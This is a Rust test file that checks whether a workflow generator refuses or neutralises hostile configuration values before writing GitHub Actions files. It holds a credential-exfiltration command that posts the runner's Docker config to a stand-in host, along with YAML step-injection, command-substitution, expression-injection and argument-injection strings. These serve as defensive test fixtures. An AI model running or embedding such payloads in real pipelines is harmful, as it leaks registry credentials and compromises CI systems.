//! Hostile values in every configuration key that reaches a generated workflow: each is
//! refused (exit 2, one line naming the key, nothing written), or comes out inert: the files
//! parse as YAML, hold no step the configuration did not ask for, carry the value as the
//! plain string it was, and pass zizmor (pedantic), check-jsonschema, actionlint and
//! shellcheck.

use yaml_rust2::{Yaml, YamlLoader};

use crate::support::Dir;
use crate::workflows::{INSTALL_PINS, generate, repository, validate_dir};

/// Images as full references (no `registry`), so that an environment may push elsewhere.
const HEAD: &str = "[workspace]\n\n[workspace.metadata.gitops]\nimage = \"ghcr.io/acme/shop\"\n";
const PINNED: &str = "27d5ce7f107fe9357f9df03efb73ab90386fccae";
/// What an injection would add: a step that runs this.
const PAYLOAD: &str = "curl -d @/home/runner/.docker/config.json evil.example";

/// TOML's basic string for `text`: the hostile values are written with their newlines.
fn toml_string(text: &str) -> String {
    serde_json::to_string(text).unwrap()
}

/// Each case: the configuration after `HEAD` (keys first, then tables), and the key the
/// refusal must name.
fn refused_cases() -> Vec<(String, &'static str)> {
    let newline_step = format!("v7\n      - run: {PAYLOAD}");
    let checkout = "\n[workspace.metadata.gitops.actions]\n\"actions/checkout\"";
    let ecr = "123456789012.dkr.ecr.eu-west-1.amazonaws.com";
    let gar = "europe-west1-docker.pkg.dev";
    vec![
        (
            format!(
                "{checkout} = {{ sha = \"3d3c42e5aac5ba805825da76410c181273ba90b1\", version = {} }}\n",
                toml_string(&newline_step)
            ),
            "actions.\"actions/checkout\".version",
        ),
        (
            format!("{checkout} = {{ sha = \"3D3C42E5AAC5BA805825DA76410C181273BA90B1\", version = \"v7.0.1\" }}\n"),
            "actions.\"actions/checkout\".sha",
        ),
        (
            "\n[workspace.metadata.gitops.actions]\n\"actions/checkout@v4 # \" = { sha = \"3d3c42e5aac5ba805825da76410c181273ba90b1\", version = \"v7.0.1\" }\n".to_owned(),
            "actions.\"actions/checkout@v4 # \"",
        ),
        (
            format!("runs-on = {}\n", toml_string("ubuntu-latest\n    steps: []")),
            "runs-on",
        ),
        ("install-path = \"--force\"\n".to_owned(), "install-path"),
        ("install-path = \"../../elsewhere\"\n".to_owned(), "install-path"),
        (
            format!(
                "workflow-steps = [{{ name = \"script\", uses = \"actions/github-script@{PINNED}\", with = {{ script = \"console.log('${{{{ github.event.head_commit.message }}}}')\" }} }}]\n"
            ),
            "workflow-steps[0].with.script",
        ),
        (
            "workflow-steps = [{ name = \"x\", run = \"echo ${{ github.head_ref }}\" }]\n".to_owned(),
            "workflow-steps[0].run",
        ),
        (
            "workflow-steps = [{ name = \"x\", run = \"make\", env = { REF = \"${{ github.head_ref }}\" } }]\n".to_owned(),
            "workflow-steps[0].env.REF",
        ),
        (
            "workflow-steps = [{ name = \"${{ github.head_ref }}\", run = \"make\" }]\n".to_owned(),
            "workflow-steps[0].name",
        ),
        (
            "workflow-steps = [{ name = \"x\", uses = \"docker://alpine@sha256:0000\" }]\n".to_owned(),
            "workflow-steps[0].uses",
        ),
        (
            "workflow-steps = [{ name = \"x\", run = \"make\", with = { \"a: b\" = \"c\" } }]\n".to_owned(),
            "workflow-steps[0].with",
        ),
        (
            "registry-secrets = { username = \"U }} x\", password = \"P\" }\n".to_owned(),
            "registry-secrets.username",
        ),
        (
            "registry-secrets = { username = \"GITHUB_TOKEN\", password = \"P\" }\n".to_owned(),
            "registry-secrets.username",
        ),
        (
            "[workspace.metadata.gitops.install]\nversion = \"0.1.0\\\"; id #\"\n".to_owned(),
            "install.version",
        ),
        (
            "[workspace.metadata.gitops.install]\nbase-url = \"https://mirror.example/$(id)\"\n".to_owned(),
            "install.base-url",
        ),
        (
            "[workspace.metadata.gitops.install.sha256]\nx86_64-unknown-linux-musl = \"abc\\n      - run: id\"\n".to_owned(),
            "install.sha256.\"x86_64-unknown-linux-musl\"",
        ),
        (
            "[workspace.metadata.gitops.install.sha256]\n\"x86_64-pc-windows-msvc\" = \"1111111111111111111111111111111111111111111111111111111111111111\"\n".to_owned(),
            "install.sha256.\"x86_64-pc-windows-msvc\"",
        ),
        (
            "[workspace.metadata.gitops.install]\nmode = \"path\"\npath = \"-rf\"\n".to_owned(),
            "install.path",
        ),
        (
            format!(
                "\n[[workspace.metadata.gitops.environments]]\nname = \"production\"\nimage = \"{ecr}/shop\"\n\n[workspace.metadata.gitops.registry-logins.\"{ecr}\"]\naws-role = {}\n",
                toml_string("arn:aws:iam::123456789012:role/x\"\n      - run: id")
            ),
            "registry-logins.\"123456789012.dkr.ecr.eu-west-1.amazonaws.com\".aws-role",
        ),
        (
            format!(
                "\n[[workspace.metadata.gitops.environments]]\nname = \"production\"\nimage = \"{ecr}/shop\"\n\n[workspace.metadata.gitops.registry-logins.\"{ecr}\"]\naws-role = \"arn:aws:iam::123456789012:role/x\"\naws-region = \"eu-west-1 ${{{{ github.head_ref }}}}\"\n"
            ),
            "registry-logins.\"123456789012.dkr.ecr.eu-west-1.amazonaws.com\".aws-region",
        ),
        (
            format!(
                "\n[[workspace.metadata.gitops.environments]]\nname = \"production\"\nimage = \"{gar}/acme/shop/shop\"\n\n[workspace.metadata.gitops.registry-logins.\"{gar}\"]\nworkload-identity-provider = \"projects/1/locations/global/workloadIdentityPools/pool/providers/${{{{ github.head_ref }}}}\"\nservice-account = \"gitops@acme-prod.iam.gserviceaccount.com\"\n"
            ),
            "registry-logins.\"europe-west1-docker.pkg.dev\".workload-identity-provider",
        ),
        (
            format!(
                "\n[[workspace.metadata.gitops.environments]]\nname = \"production\"\nimage = \"{gar}/acme/shop/shop\"\n\n[workspace.metadata.gitops.registry-logins.\"{gar}\"]\nworkload-identity-provider = \"projects/1/locations/global/workloadIdentityPools/pool/providers/repo\"\nservice-account = \"x\\\" }}\"\n"
            ),
            "registry-logins.\"europe-west1-docker.pkg.dev\".service-account",
        ),
        (
            "\n[workspace.metadata.gitops.registry-logins.\"docker.io\"]\nusername-secret = \"A\"\npassword-secret = \"B\"\n".to_owned(),
            "registry-logins.\"docker.io\"",
        ),
        (
            format!(
                "\n[[workspace.metadata.gitops.environments]]\nname = \"features\"\nbranches = [{}]\nformat = \"ft-{{sha}}-{{timestamp}}\"\n",
                toml_string(&format!("feature/x\n      - run: {PAYLOAD}"))
            ),
            "environments[0].branches",
        ),
        (
            format!(
                "\n[[workspace.metadata.gitops.environments]]\nname = \"production\"\nimage = {}\n",
                toml_string("docker.io/acme/shop\n--x")
            ),
            "environments[0].image",
        ),
    ]
}

#[test]
fn hostile_values_in_every_key_are_refused_with_one_line_naming_the_key() {
    for (setting, key) in refused_cases() {
        let config = format!("{HEAD}{setting}");
        let dir = repository(&config);
        let line = dir.command().args(["init-workflows"]).one_line_error(2);
        assert!(line.contains(key), "{setting}\nnames no `{key}`: {line}");
        assert!(
            !dir.join(".github/workflows").exists(),
            "{setting}: files were written"
        );
    }
}

#[test]
fn a_hostile_registry_is_refused() {
    let dir = repository(
        "[workspace]\n\n[workspace.metadata.gitops]\nregistry = \"reg.example.com\\nx\"\nimage = \"shop\"\n",
    );
    let line = dir.command().args(["init-workflows"]).one_line_error(2);
    assert!(line.contains("registry"), "{line}");
    assert!(!dir.join(".github/workflows").exists());
}

#[test]
fn a_hostile_package_name_never_reaches_the_shell() {
    let dir = Dir::git_repo();
    dir.create(
        "Cargo.toml",
        format!(
            "[package]\nname = \"a$(id)\"\nversion = \"0.1.0\"\n\n[package.metadata.gitops]\nimage = \"ghcr.io/acme/shop\"\n{}",
            INSTALL_PINS.replace("workspace.", "package.")
        ),
    );
    dir.commit("first");
    let line = dir.command().args(["init-workflows"]).one_line_error(2);
    assert!(line.contains("package.name"), "{line}");
    assert!(line.contains("a$(id)"), "{line}");
    assert!(!dir.join(".github/workflows").exists());
}

fn steps(pipeline: &Yaml) -> &Vec<Yaml> {
    pipeline["jobs"]["build"]["steps"].as_vec().unwrap()
}

#[test]
fn hostile_values_that_are_accepted_come_out_as_inert_strings() {
    // Valid shell (`:` and a quoted word) around a line that would be a step of its own.
    let run = format!("make lint\n: '\n      - run: {PAYLOAD}\n'");
    let with_value = format!("a\n  b: c\n      - run: {PAYLOAD}");
    let branch = "feature/$(curl$IFS'evil.example')\"'#";
    let regex = format!("rel-[0-9]+\n      - run: {PAYLOAD}");
    let config = format!(
        "{HEAD}workflow-steps = [{{ name = \"lint: # all\", run = {} }}, {{ name = \"cache\", uses = \"actions/cache@{PINNED}\", with = {{ path = {}, key = \"${{{{ inputs.ref }}}}\" }} }}]\n\n[[workspace.metadata.gitops.environments]]\nname = \"production\"\n\n[[workspace.metadata.gitops.environments]]\nname = \"releases\"\ntags = {{ regex = {} }}\nformat = \"rel-{{sha}}-{{timestamp}}\"\n\n[[workspace.metadata.gitops.environments]]\nname = \"features\"\nbranches = [{}]\nformat = \"ft-{{sha}}-{{timestamp}}\"\n",
        toml_string(&run),
        toml_string(&with_value),
        toml_string(&regex),
        toml_string(branch),
    );
    let dir = repository(&config);
    let files = generate(&dir);
    let pipeline = &files
        .iter()
        .find(|(n, _)| n == "gitops-pipeline.yml")
        .unwrap()
        .1;
    let doc = &YamlLoader::load_from_str(pipeline).unwrap()[0];
    let names: Vec<&str> = steps(doc)
        .iter()
        .map(|s| s["name"].as_str().unwrap())
        .collect();
    assert_eq!(
        names,
        [
            "check out",
            "set up docker buildx",
            "log in to ghcr.io with GITHUB_TOKEN",
            "install cargo-gitops (prebuilt)",
            "lint: # all",
            "cache",
            "build or retag"
        ]
    );
    let lint = &steps(doc)[4];
    assert_eq!(lint["run"].as_str(), Some(run.as_str()));
    let cache = &steps(doc)[5];
    assert_eq!(cache["with"]["path"].as_str(), Some(with_value.as_str()));
    assert_eq!(cache["with"]["key"].as_str(), Some("${{ inputs.ref }}"));
    let mut payloads = 0;
    for (name, contents) in &files {
        let doc = &YamlLoader::load_from_str(contents).unwrap_or_else(|e| panic!("{name}: {e}"))[0];
        if name == "gitops-features.yml" {
            let branches = doc["on"]["push"]["branches"].as_vec().unwrap();
            assert_eq!(branches[0].as_str(), Some(branch));
        }
        // The payload is never a line of its own: only inside quoted strings and comments.
        for line in contents.lines() {
            if line.contains("evil.example") {
                payloads += 1;
                assert!(
                    !line.trim_start().starts_with("- run:"),
                    "{name}: a step of its own: {line}"
                );
            }
        }
    }
    assert!(payloads >= 4, "the hostile values are in the files");
    validate_dir(&dir);
}
